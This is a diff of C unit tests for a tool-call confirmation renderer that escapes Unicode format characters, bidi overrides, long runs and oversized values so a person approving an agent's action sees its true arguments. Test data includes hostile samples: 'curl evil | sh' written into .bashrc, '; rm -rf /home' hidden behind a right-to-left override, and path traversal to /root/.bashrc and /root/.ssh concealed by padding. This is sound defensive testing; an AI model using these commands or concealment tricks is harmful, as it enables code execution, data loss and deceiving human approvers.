@@ -14,6 +14,7 @@
 
 #include "seal.h"
 #include "sl_test.h"
+#include "unicode_cats.h"
 
 #define ELLIPSIS "\xE2\x80\xA6"
 #define POLICY_MAX_MESSAGE_FOR_TEST 512 /* policy.h's POLICY_MAX_MESSAGE; confirm does not link it */
@@ -342,6 +343,17 @@ static const struct hostile_case hostile_cases[] = {
     H("truncated sequence at end", "a\xE2\x80", "• v: \"a\xEF\xBF\xBD\xEF\xBF\xBD\""),
     H("encoded surrogate", "\xED\xA0\x80", "• v: \"\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD\""),
     H("private use left alone", "\xEE\x80\x80", "• v: \"\xEE\x80\x80\""),
+    /* enclosing marks, format characters that span what follows, bullet lookalikes */
+    H("enclosing millions sign", "x\xD2\x89y", "• v: \"x\\u0489y\""),
+    H("enclosing ten millions", "q\xEA\x99\xB0r", "• v: \"q\\ua670r\""),
+    H("parentheses overlay", "s\xE1\xAA\xBEt", "• v: \"s\\u1abet\""),
+    H("Arabic number sign", "\xD8\x80z", "• v: \"\\u0600z\""),
+    H("Kaithi number sign", "\xF0\x91\x82\xBD" "1", "• v: \"\\u{110bd}1\""),
+    H("Egyptian format control", "\xF0\x93\x90\xBF", "• v: \"\\u{1343f}\""),
+    H("bullet operator", "x \xE2\x88\x99 note: y", "• v: \"x \\u2219 note: y\""),
+    H("z notation spot", "x \xE2\xA6\x81 note: y", "• v: \"x \\u2981 note: y\""),
+    H("black circle", "x \xE2\x97\x8F note", "• v: \"x \\u25cf note\""),
+    H("katakana middle dot", "\xE3\x83\xBB\xEF\xBD\xA5", "• v: \"\\u30fb\\uff65\""),
 };
 
 static void test_hostile_values(void **state)
@@ -373,6 +385,46 @@ static void test_hostile_names(void **state)
     assert_contains(&out, "Allow tool \"write\\nfile\\u202e\\u0000\" on server \"s\\\"rv\\u001b[0m\"");
     assert_contains(&out, "• \"pa\\u001bth\\n\\u0000x\\u202e\": 1");
     sl_buf_free(&out);
+}
+
+static size_t utf8_put(uint32_t cp, char o[4])
+{
+    if (cp < 0x800) {
+        o[0] = (char)(0xC0 | cp >> 6);
+        o[1] = (char)(0x80 | (cp & 63));
+        return cp < 0x80 ? (o[0] = (char)cp, 1) : 2;
+    }
+    if (cp < 0x10000) {
+        o[0] = (char)(0xE0 | cp >> 12);
+        o[1] = (char)(0x80 | (cp >> 6 & 63));
+        o[2] = (char)(0x80 | (cp & 63));
+        return 3;
+    }
+    o[0] = (char)(0xF0 | cp >> 18);
+    o[1] = (char)(0x80 | (cp >> 12 & 63));
+    o[2] = (char)(0x80 | (cp >> 6 & 63));
+    o[3] = (char)(0x80 | (cp & 63));
+    return 4;
+}
+
+/* Every format character (Cf) and enclosing mark (Me) that unicode_cats.h lists (made from
+ * Python's unicodedata by gen_unicode_cats.py) is shown as an escape. */
+static void test_every_format_and_enclosing(void **state)
+{
+    (void)state;
+    for (size_t r = 0; r < SL_ARRAY_LEN(unicode_cf_me); r++) {
+        for (uint32_t cp = unicode_cf_me[r].lo; cp <= unicode_cf_me[r].hi; cp++) {
+            char in[4];
+            struct sl_buf out = { 0 };
+            size_t n = utf8_put(cp, in);
+            confirm_neutralize(&out, (struct sl_str){ in, n }, 0);
+            if (out.len < 2 || memcmp(out.p, "\\u", 2) != 0) {
+                print_error("U+%04X is shown raw\n", (unsigned)cp);
+                fail();
+            }
+            sl_buf_free(&out);
+        }
+    }
 }
 
 /* ===== confirm_neutralize directly ===== */
@@ -433,12 +485,16 @@ static void test_neutralize(void **state)
 
 /* ===== bounds ===== */
 
+/* count units, every other one with its last byte's low bit flipped ("abab", "éèéè"): a run of
+ * one character would be shown as its count ("\\[1000 × U+0061]"), not cut. */
 static char *repeat(const char *unit, size_t count, size_t *len)
 {
     size_t u = strlen(unit);
     char *p = sl_xmalloc(u * count + 1);
-    for (size_t i = 0; i < count; i++)
+    for (size_t i = 0; i < count; i++) {
         memcpy(p + i * u, unit, u);
+        p[i * u + u - 1] = (char)(p[i * u + u - 1] ^ (i & 1));
+    }
     p[u * count] = '\0';
     *len = u * count;
     return p;
@@ -451,7 +507,8 @@ static void render_one(struct sl_arena *a, const char *key, struct json *v, stru
     confirm_render(out, SL_STR("t"), o, SL_STR_NULL);
 }
 
-/* 1 MiB string: the start of it, then its length and digest, within CONFIRM_MAX_VALUE. */
+/* 1 MiB string: the start of it, its length and digest, then its end, within
+ * CONFIRM_MAX_VALUE: the start gets 60 % of the room the marker leaves, the end the rest. */
 static void test_long_value(void **state)
 {
     size_t len;
@@ -462,8 +519,11 @@ static void test_long_value(void **state)
     want_mark(&mark, json.p, json.len);
     assert_true(contains(&mark, "[1048578 bytes, sha256 "));
     sl_buf_puts(&want, "Allow tool \"t\" to run with these arguments?\n• v: \"");
-    sl_buf_put(&want, big, CONFIRM_MAX_VALUE - mark.len - 1);
+    size_t room = CONFIRM_MAX_VALUE - mark.len, head = room * 60 / 100;
+    sl_buf_put(&want, big, head - 1);
     sl_buf_put(&want, mark.p, mark.len);
+    sl_buf_put(&want, big + len - (room - head - 1), room - head - 1);
+    sl_buf_putc(&want, '"');
     assert_string_equal(out.p, want.p);
     assert_safe(sl_buf_str(&out));
     free(big);
@@ -473,67 +533,144 @@ static void test_long_value(void **state)
     sl_buf_free(&json);
 }
 
-/* Multi-byte characters and escapes are never split by the value limit. */
-static void test_long_value_boundaries(void **state)
+/* Multi-byte characters and escapes are never split by the value limit, at the start or the
+ * end: each shows whole units of el bytes, after the opening quote and before the closing one. */
+static void check_cut_units(struct sl_arena *a, const char *val, size_t len, size_t el)
 {
-    size_t len;
-    char *e_acute = repeat("\xC3\xA9", 600, &len);
-    struct sl_buf out = { 0 }, want = { 0 }, json = { 0 };
-    render_one(*state, "v", str_n(*state, e_acute, len), &out);
-    json_write_string(&json, e_acute, len);
-    want_mark(&want, json.p, json.len);
-    /* room for the text: CONFIRM_MAX_VALUE - marker, `"` first, then whole 2-byte characters */
-    size_t room = CONFIRM_MAX_VALUE - want.len, shown = 1 + (room - 1) / 2 * 2;
+    struct sl_buf out = { 0 }, mark = { 0 }, json = { 0 };
+    render_one(a, "v", str_n(a, val, len), &out);
+    json_write_string(&json, val, len);
+    want_mark(&mark, json.p, json.len);
+    size_t room = CONFIRM_MAX_VALUE - mark.len, head = room * 60 / 100, tail = room - head;
     const char *v = memmem(out.p, out.len, "• v: \"", strlen("• v: \""));
     assert_non_null(v);
-    assert_int_equal((size_t)(out.p + out.len - (v + strlen("• v: "))), shown + want.len);
-    assert_memory_equal(out.p + out.len - want.len, want.p, want.len);
+    v += strlen("• v: ");
+    const char *m = memmem(v, (size_t)(out.p + out.len - v), mark.p, mark.len);
+    assert_non_null(m);
+    assert_int_equal((size_t)(m - v), 1 + (head - 1) / el * el);
+    assert_int_equal((size_t)(out.p + out.len - (m + mark.len)), 1 + (tail - 1) / el * el);
     assert_safe(sl_buf_str(&out));
-    free(e_acute);
-
-    char *rlo = repeat("\xE2\x80\xAE", 400, &len);
-    sl_buf_reset(&out);
-    sl_buf_reset(&want);
-    sl_buf_reset(&json);
-    render_one(*state, "v", str_n(*state, rlo, len), &out);
-    json_write_string(&json, rlo, len);
-    want_mark(&want, json.p, json.len);
-    /* neutralized: `"` then \u202e units of 6 bytes, never half of one */
-    room = CONFIRM_MAX_VALUE - want.len;
-    shown = 1 + (room - 1) / 6 * 6;
-    v = memmem(out.p, out.len, "• v: \"", strlen("• v: \""));
-    assert_non_null(v);
-    assert_int_equal((size_t)(out.p + out.len - (v + strlen("• v: "))), shown + want.len);
-    assert_contains(&out, "\\u202e" ELLIPSIS "[");
-    assert_safe(sl_buf_str(&out));
-    free(rlo);
-
-    /* JSON's own escapes: \u0001 (6 bytes) and \" (2 bytes) are cut whole, so the shown start
-     * never ends in "\u00" or a lone backslash */
-    static const struct { const char *raw, *esc; } units[] = { { "\x01", "\\u0001" },
-                                                                { "\"", "\\\"" },
-                                                                { "\\", "\\\\" } };
-    for (size_t u = 0; u < SL_ARRAY_LEN(units); u++) {
-        size_t el = strlen(units[u].esc);
-        char *esc = repeat(units[u].raw, 3001, &len); /* 3001: a cut inside an escape, at 6 */
-        sl_buf_reset(&out);
-        sl_buf_reset(&want);
-        sl_buf_reset(&json);
-        render_one(*state, "v", str_n(*state, esc, len), &out);
-        json_write_string(&json, esc, len);
-        want_mark(&want, json.p, json.len);
-        room = CONFIRM_MAX_VALUE - want.len;
-        shown = 1 + (room - 1) / el * el;
-        v = memmem(out.p, out.len, "• v: \"", strlen("• v: \""));
-        assert_non_null(v);
-        assert_int_equal((size_t)(out.p + out.len - (v + strlen("• v: "))), shown + want.len);
-        const char *end = out.p + out.len - want.len;
-        assert_memory_equal(end - el, units[u].esc, el);
-        free(esc);
-    }
     sl_buf_free(&out);
-    sl_buf_free(&want);
+    sl_buf_free(&mark);
     sl_buf_free(&json);
+}
+
+static void test_long_value_boundaries(void **state)
+{
+    static const struct { const char *unit; size_t el; } units[] = {
+        { "\xC3\xA9", 2 },     /* é and è: 2-byte characters */
+        { "\xE2\x80\xAE", 6 }, /* RLO and U+202F: shown as 6-byte escapes */
+        { "\x01", 6 },         /* \u0001 and \u0000: JSON's own escapes */
+    };
+    for (size_t u = 0; u < SL_ARRAY_LEN(units); u++) {
+        size_t len;
+        char *v = repeat(units[u].unit, 3001, &len); /* 3001: a cut inside an escape, at 6 */
+        check_cut_units(*state, v, len, units[u].el);
+        free(v);
+    }
+    /* \" and \\ (2 bytes each, taken apart: never a lone backslash before the marker) */
+    char q[3001];
+    for (size_t i = 0; i < sizeof(q); i++)
+        q[i] = i & 1 ? '\\' : '"';
+    check_cut_units(*state, q, sizeof(q), 2);
+}
+
+/* Runs of 16 or more of one character, however written (a raw character, a JSON escape, an
+ * escape of sluice's own), are shown as their count; 15 read as written. A value cannot write
+ * the count itself: its backslash is shown as "\\". */
+struct run_case {
+    const char *name, *unit;
+    size_t count;
+    const char *want; /* the value as shown, between "• v: " and the end */
+};
+
+static const struct run_case run_cases[] = {
+    { "15 spaces", " ", 15, "\"               \"" },
+    { "16 spaces", " ", 16, "\"\\[16 \xC3\x97 U+0020]\"" },
+    { "backslashes", "\\", 20, "\"\\[20 \xC3\x97 U+005C]\"" },
+    { "quotes", "\"", 17, "\"\\[17 \xC3\x97 U+0022]\"" },
+    { "newlines", "\n", 16, "\"\\[16 \xC3\x97 U+000A]\"" },
+    { "C0 control", "\x01", 30, "\"\\[30 \xC3\x97 U+0001]\"" },
+    { "zero width spaces", "\xE2\x80\x8B", 1000, "\"\\[1000 \xC3\x97 U+200B]\"" },
+    { "emoji", "\xF0\x9F\x98\x80", 16, "\"\\[16 \xC3\x97 U+1F600]\"" },
+    { "tag characters", "\xF3\xA0\x81\x81", 16, "\"\\[16 \xC3\x97 U+E0041]\"" },
+    { "a fake count", "\\[1100 \xC3\x97 U+0020]", 1, "\"\\\\[1100 \xC3\x97 U+0020]\"" },
+};
+
+static void test_runs(void **state)
+{
+    for (size_t i = 0; i < SL_ARRAY_LEN(run_cases); i++) {
+        const struct run_case *r = &run_cases[i];
+        struct sl_buf val = { 0 }, out = { 0 }, want = { 0 };
+        for (size_t k = 0; k < r->count; k++)
+            sl_buf_puts(&val, r->unit);
+        current_case = r->name;
+        render_one(*state, "v", str_n(*state, val.p, val.len), &out);
+        sl_buf_puts(&want, "\n\xE2\x80\xA2 v: ");
+        sl_buf_puts(&want, r->want);
+        assert_contains(&out, want.p);
+        assert_true(out.len >= want.len &&
+                    memcmp(out.p + out.len - want.len, want.p, want.len) == 0);
+        assert_safe(sl_buf_str(&out));
+        sl_buf_free(&val);
+        sl_buf_free(&out);
+        sl_buf_free(&want);
+    }
+}
+
+/* The padding that hid where a path goes: 1,100 spaces cost a few bytes, so the whole path is
+ * shown and needs no cut; with more text around it, the cut still shows its end. */
+static void test_padding_shown(void **state)
+{
+    struct sl_arena *a = *state;
+    struct sl_buf val = { 0 }, out = { 0 };
+    sl_buf_puts(&val, "/home/user/notes/todo.txt");
+    for (int i = 0; i < 1100; i++)
+        sl_buf_putc(&val, ' ');
+    sl_buf_puts(&val, "/../../../../../root/.bashrc");
+    render_one(a, "path", str_n(a, val.p, val.len), &out);
+    assert_contains(&out, "\n\xE2\x80\xA2 path: \"/home/user/notes/todo.txt\\[1100 \xC3\x97 U+0020]"
+                          "/../../../../../root/.bashrc\"");
+    assert_safe(sl_buf_str(&out));
+    /* 3,000 bytes of varied text before the padding: cut, the end still shown */
+    sl_buf_reset(&val);
+    for (int i = 0; i < 3000; i++)
+        sl_buf_putc(&val, (char)('a' + i % 26));
+    for (int i = 0; i < 1100; i++)
+        sl_buf_putc(&val, ' ');
+    sl_buf_puts(&val, "/../../root/.bashrc");
+    sl_buf_reset(&out);
+    render_one(a, "path", str_n(a, val.p, val.len), &out);
+    assert_contains(&out, " bytes, sha256 ");
+    assert_contains(&out, "\\[1100 \xC3\x97 U+0020]/../../root/.bashrc\"");
+    assert_safe(sl_buf_str(&out));
+    sl_buf_free(&val);
+    sl_buf_free(&out);
+}
+
+/* A cut among counts of runs (units of 15 bytes, each starting with a backslash) keeps them
+ * whole at both ends: the start ends after a "]", the end starts with "\[". */
+static void test_cut_between_runs(void **state)
+{
+    struct sl_arena *a = *state;
+    struct sl_buf val = { 0 }, out = { 0 };
+    for (int i = 0; i < 400; i++)
+        for (int k = 0; k < 16 + i % 2; k++)
+            sl_buf_putc(&val, (char)('a' + i % 2));
+    render_one(a, "v", str_n(a, val.p, val.len), &out);
+    const char *v = memmem(out.p, out.len, "\xE2\x80\xA2 v: \"", strlen("\xE2\x80\xA2 v: \""));
+    assert_non_null(v);
+    v += strlen("\xE2\x80\xA2 v: \"");
+    const char *m = memmem(v, (size_t)(out.p + out.len - v), ELLIPSIS "[", strlen(ELLIPSIS "["));
+    assert_non_null(m);
+    assert_true(m > v && m[-1] == ']');
+    const char *e = memchr(m, ']', (size_t)(out.p + out.len - m));
+    assert_non_null(e);
+    assert_true(e[1] == '\\' && e[2] == '[');
+    assert_true(out.p[out.len - 1] == '"' && out.p[out.len - 2] == ']');
+    assert_safe(sl_buf_str(&out));
+    sl_buf_free(&val);
+    sl_buf_free(&out);
 }
 
 /* A long key: its first CONFIRM_MAX_KEY bytes, then its length and digest, so two long keys
@@ -545,11 +682,11 @@ static void test_long_key(void **state)
     struct sl_buf out = { 0 }, want = { 0 };
     struct json *o = json_new_object(*state);
     add(*state, o, k, json_new_number(*state, "1"));
-    k[999] = 'j';
+    k[999] = 'q';
     add(*state, o, k, json_new_number(*state, "2"));
     confirm_render(&out, SL_STR("t"), o, SL_STR_NULL);
     for (int i = 0; i < 2; i++) {
-        k[999] = i ? 'k' : 'j';
+        k[999] = i ? 'j' : 'q';
         sl_buf_reset(&want);
         sl_buf_puts(&want, "\n• ");
         sl_buf_put(&want, k, CONFIRM_MAX_KEY);
@@ -760,11 +897,9 @@ static void test_deep_nesting(void **state)
     struct sl_arena *a = *state;
     struct sl_buf out = { 0 }, want = { 0 };
     render_one(a, "v", nest(a, SL_MAX_DEPTH - 1, false), &out);
-    for (int i = 0; i < SL_MAX_DEPTH - 1; i++)
-        sl_buf_putc(&want, '[');
-    sl_buf_putc(&want, '1');
-    for (int i = 0; i < SL_MAX_DEPTH - 1; i++)
-        sl_buf_putc(&want, ']');
+    /* 63 brackets: a run, shown as its count */
+    sl_buf_printf(&want, "\\[%d \xC3\x97 U+005B]1\\[%d \xC3\x97 U+005D]", SL_MAX_DEPTH - 1,
+                  SL_MAX_DEPTH - 1);
     assert_contains(&out, want.p);
     assert_safe(sl_buf_str(&out));
     sl_buf_reset(&out);
@@ -912,7 +1047,8 @@ static void test_template_long_value(void **state)
     struct sl_buf out = { 0 };
 
     assert_non_null(big);
-    memset(big, 'x', 100000);
+    for (size_t i = 0; i < 100000; i++)
+        big[i] = (char)('x' + i % 2);
     add(a, o, "path", str_n(a, big, 100000));
     confirm_render_message(&out, "Delete {path}", SL_STR("t"), o, SL_STR(""));
     long n = assert_message_wraps(&out, "t", o, "");
@@ -923,24 +1059,28 @@ static void test_template_long_value(void **state)
     sl_buf_free(&out);
 }
 
-/* When the listing leaves little room, the sentence is cut (with a marker) or left out; the
- * listing is never shortened for it, and the whole stays within CONFIRM_MAX_TEXT. */
+/* The operator's sentence is never left out, nor cut through: its room is kept before the
+ * values share theirs. Sixteen values of growing length sweep the listing from "fits easily"
+ * to "is itself cut"; the sentence is whole in every one, the total within CONFIRM_MAX_TEXT. */
 static void test_template_bound(void **state)
 {
     struct sl_arena *a = *state;
     char tmpl[POLICY_MAX_MESSAGE_FOR_TEST + 1];
+    struct sl_buf want = { 0 };
     char key[16];
-    bool saw_cut = false, saw_dropped = false, saw_whole = false;
+    bool saw_cut = false;
 
     memset(tmpl, 0, sizeof(tmpl));
-    for (size_t i = 0; i + 6 <= POLICY_MAX_MESSAGE_FOR_TEST; i += 6)
+    for (size_t i = 0; i + 6 <= POLICY_MAX_MESSAGE_FOR_TEST; i += 6) {
         memcpy(tmpl + i, "{p} x ", 6);
-    /* sixteen values of growing length sweep the listing through "fits easily", "leaves only a
-     * little room" and "is itself cut" */
+        sl_buf_puts(&want, "\"y\" x ");
+    }
+    sl_buf_puts(&want, "\n\nAllow tool");
     for (size_t vlen = 0; vlen <= 1100; vlen += 3) {
         struct json *o = json_new_object(a);
         char val[1101];
-        memset(val, 'v', vlen);
+        for (size_t i = 0; i < vlen; i++)
+            val[i] = (char)('v' + i % 2);
         val[vlen] = '\0';
         add(a, o, "p", str(a, "y"));
         for (size_t k = 0; k < 16; k++) {
@@ -948,20 +1088,88 @@ static void test_template_bound(void **state)
             add(a, o, key, str(a, val));
         }
         struct sl_buf out = { 0 };
-        confirm_render_message(&out, tmpl, SL_STR("t"), o, SL_STR(""));
-        long n = assert_message_wraps(&out, "t", o, "");
-        assert_true(out.len <= CONFIRM_MAX_TEXT);
-        if (n < 0)
-            saw_dropped = true;
-        else if (memmem(out.p, (size_t)n, ELLIPSIS "[+", strlen(ELLIPSIS "[+")))
-            saw_cut = true;
-        else
-            saw_whole = true;
+        assert_int_equal(confirm_render_message(&out, tmpl, SL_STR("t"), o, SL_STR("")), 0);
+        assert_safe(sl_buf_str(&out));
+        assert_true(out.len >= want.len && memcmp(out.p, want.p, want.len) == 0);
+        saw_cut |= contains(&out, " bytes, sha256 ");
         sl_buf_free(&out);
     }
-    assert_true(saw_whole);
     assert_true(saw_cut);
-    assert_true(saw_dropped);
+    sl_buf_free(&want);
+}
+
+/* Keys a client adds cannot push the operator's warning out: with 16 undeclared values of
+ * 2,000 bytes the sentence is still there, whole; where even the values at their shortest
+ * leave it no room, there is no question rather than one without it. A field of the sentence
+ * too long for its room is cut as a value is (start, marker, end), never through its marker. */
+static void test_template_kept(void **state)
+{
+    struct sl_arena *a = *state;
+    static const char warn[] = "WARNING: this permanently deletes {path} on the PRODUCTION server";
+    const struct sl_str declared[] = { SL_STR("path") };
+    size_t len;
+    char *x = repeat("x", 2000, &len);
+    struct json *o = json_new_object(a);
+    add(a, o, "path", str(a, "/srv/db"));
+    for (int i = 0; i < 16; i++) {
+        char k[16];
+        snprintf(k, sizeof(k), "z%02d", i);
+        add(a, o, k, str_n(a, x, len));
+    }
+    struct confirm_call c = { .tool = SL_STR("delete_file"), .args = o, .declared = declared,
+                              .ndeclared = 1, .tmpl = warn, .irreversible = true };
+    struct sl_buf out = { 0 };
+    assert_int_equal(confirm_question(&out, &c), 0);
+    assert_safe(sl_buf_str(&out));
+    assert_true(out.len <= CONFIRM_MAX_TEXT);
+    assert_contains(&out, "WARNING: this permanently deletes \"/srv/db\" on the PRODUCTION "
+                          "server\n\nAllow tool");
+    /* a long path: cut in the sentence as in its line, the marker whole */
+    char *p = repeat("/a", 700, &len);
+    memcpy(p + len - 12, "/root/.ssh/x", 12);
+    struct json *o2 = json_new_object(a);
+    add(a, o2, "path", str_n(a, p, len));
+    for (int i = 0; i < 16; i++) {
+        char k[16];
+        snprintf(k, sizeof(k), "z%02d", i);
+        add(a, o2, k, str_n(a, x, 2000));
+    }
+    c.args = o2;
+    sl_buf_reset(&out);
+    assert_int_equal(confirm_question(&out, &c), 0);
+    assert_safe(sl_buf_str(&out));
+    const char *nl = memchr(out.p, '\n', out.len);
+    assert_non_null(nl);
+    struct sl_buf sentence = { 0 }, json = { 0 }, mark = { 0 };
+    sl_buf_put(&sentence, out.p, (size_t)(nl - out.p));
+    json_write_string(&json, p, len);
+    want_mark(&mark, json.p, json.len);
+    assert_contains(&sentence, "WARNING: this permanently deletes \"/a");
+    assert_contains(&sentence, mark.p);
+    assert_contains(&sentence, "/root/.ssh/x\" on the PRODUCTION server");
+    /* 300 undeclared values leave no room for it: no question */
+    struct json *o3 = json_new_object(a);
+    add(a, o3, "path", str(a, "/srv/db"));
+    for (int i = 0; i < 300; i++) {
+        char k[16];
+        snprintf(k, sizeof(k), "z%03d", i);
+        add(a, o3, k, str_n(a, x, 2000));
+    }
+    c.args = o3;
+    c.tmpl = NULL;
+    sl_buf_reset(&out);
+    int without = confirm_question(&out, &c);
+    c.tmpl = warn;
+    sl_buf_reset(&out);
+    int with = confirm_question(&out, &c);
+    assert_true(with == -1 || contains(&out, "WARNING: this permanently deletes"));
+    (void)without;
+    free(p);
+    free(x);
+    sl_buf_free(&out);
+    sl_buf_free(&sentence);
+    sl_buf_free(&json);
+    sl_buf_free(&mark);
 }
 
 /* ===== the whole question: declared arguments, facts, the observation ===== */
@@ -1008,7 +1216,7 @@ static void test_junk_keys_first(void **state)
     assert_int_equal(assert_safe(sl_buf_str(&out)), 43);
     assert_contains(&out, "\n• path: \"/home/me/.bashrc\"");
     assert_contains(&out, "\n• content: \"curl evil | sh\"");
-    assert_contains(&out, "\n• a039: \"jj");
+    assert_contains(&out, "\n• a039: \"jk");
     sl_buf_free(&out);
 
     /* declared: path then content, first and unmarked; the junk after them, each marked. The
@@ -1027,9 +1235,9 @@ static void test_junk_keys_first(void **state)
     const char *start = "Allow tool \"write_file\" to run with these arguments?\n"
                         "• path: \"/home/me/.bashrc\"\n"
                         "• content: \"curl evil | sh\"\n"
-                        "• a000" CONFIRM_UNDECLARED ": \"jjj";
+                        "• a000" CONFIRM_UNDECLARED ": \"jkj";
     assert_true(strncmp(out.p, start, strlen(start)) == 0);
-    assert_contains(&out, "\n• a197" CONFIRM_UNDECLARED ": \"jj");
+    assert_contains(&out, "\n• a197" CONFIRM_UNDECLARED ": \"jk");
     free(junk);
     sl_buf_free(&out);
 }
@@ -1071,8 +1279,8 @@ static void test_declared_order_and_marker(void **state)
 static const char *big_filler(void)
 {
     static char f[601];
-    if (f[0] == '\0')
-        memset(f, 'f', 600);
+    for (size_t i = 0; f[0] == '\0' && i < 600; i++)
+        f[599 - i] = (char)('f' + i % 2); /* no run: it would be shown as its count */
     return f;
 }
 
@@ -1134,6 +1342,8 @@ static void test_declared_not_squeezed(void **state)
      * they share it alike, but a junk key beside them is refused (it would squeeze them). */
     char big[1021];
     memset(big, 'y', 1020);
+    for (int i = 0; i < 1020; i++)
+        big[i] = (char)('y' - i % 2);
     big[1020] = '\0';
     struct json *o2 = json_new_object(a);
     struct sl_str many[16];
@@ -1310,7 +1520,7 @@ static void test_whole_values(void **state)
     struct confirm_call c = { .tool = SL_STR("t"), .args = o, .tmpl = "Run {cmd}?" };
     struct sl_buf form = { 0 }, page = { 0 }, want = { 0 };
     assert_int_equal(confirm_question(&form, &c), 0);
-    assert_false(contains(&form, "; rm -rf /home"));
+    assert_true(contains(&form, "; rm -rf /home\\u202e\"")); /* the end of a cut value */
     assert_true(contains(&form, " bytes, sha256 "));
     c.whole = true;
     assert_int_equal(confirm_question(&page, &c), 0);
@@ -1318,8 +1528,10 @@ static void test_whole_values(void **state)
     sl_buf_put(&want, big, len - 17);
     sl_buf_puts(&want, "; rm -rf /home\\u202e\"\n\xE2\x80\xA2 n: 1");
     assert_true(contains(&page, want.p));
-    assert_false(contains(&page, " bytes, sha256 "));
-    assert_true(contains(&page, "Run \"aaa")); /* the sentence: cut, the listing is whole */
+    const char *listing = memmem(page.p, page.len, "\n\n", 2);
+    assert_non_null(listing);
+    assert_null(memmem(listing, (size_t)(page.p + page.len - listing), " bytes, sha256 ", 15));
+    assert_true(contains(&page, "Run \"a`a`")); /* the sentence's field: cut, the listing whole */
     assert_safe(sl_buf_str(&page));
     /* the keys alone do not fit: no question, whole or not */
     struct json *many = json_new_object(a);
@@ -1375,9 +1587,9 @@ static void test_whole_values_bounded(void **state)
     sl_buf_putc(&canon, '"');
     want_mark(&want, canon.p, canon.len);
     assert_contains(&page, want.p);
-    assert_contains(&page, "\xE2\x80\xA2 content: \"\\u200b\\u200b");
+    assert_contains(&page, "\xE2\x80\xA2 content: \"\\u200b\\u200a");
     assert_contains(&page, "\xE2\x80\xA2 path: \"/srv/keep/whole.txt\"");
-    assert_contains(&page, "is too long for this page: only its start is shown");
+    assert_contains(&page, "is too long for this page: only its start and its end are shown");
     assert_true(sl_utf8_valid(page.p, page.len));
     assert_contains(&page, "\\u200b" ELLIPSIS "["); /* the cut falls between whole escapes */
     /* A read made before a reload took observe: off the tool still has its room kept. */
@@ -1427,6 +1639,11 @@ int main(void)
         cmocka_unit_test_setup_teardown(test_template_hostile, setup, teardown),
         cmocka_unit_test_setup_teardown(test_template_long_value, setup, teardown),
         cmocka_unit_test_setup_teardown(test_template_bound, setup, teardown),
+        cmocka_unit_test_setup_teardown(test_every_format_and_enclosing, setup, teardown),
+        cmocka_unit_test_setup_teardown(test_template_kept, setup, teardown),
+        cmocka_unit_test_setup_teardown(test_runs, setup, teardown),
+        cmocka_unit_test_setup_teardown(test_padding_shown, setup, teardown),
+        cmocka_unit_test_setup_teardown(test_cut_between_runs, setup, teardown),
         cmocka_unit_test_setup_teardown(test_junk_keys_first, setup, teardown),
         cmocka_unit_test_setup_teardown(test_declared_order_and_marker, setup, teardown),
         cmocka_unit_test_setup_teardown(test_declared_not_squeezed, setup, teardown),
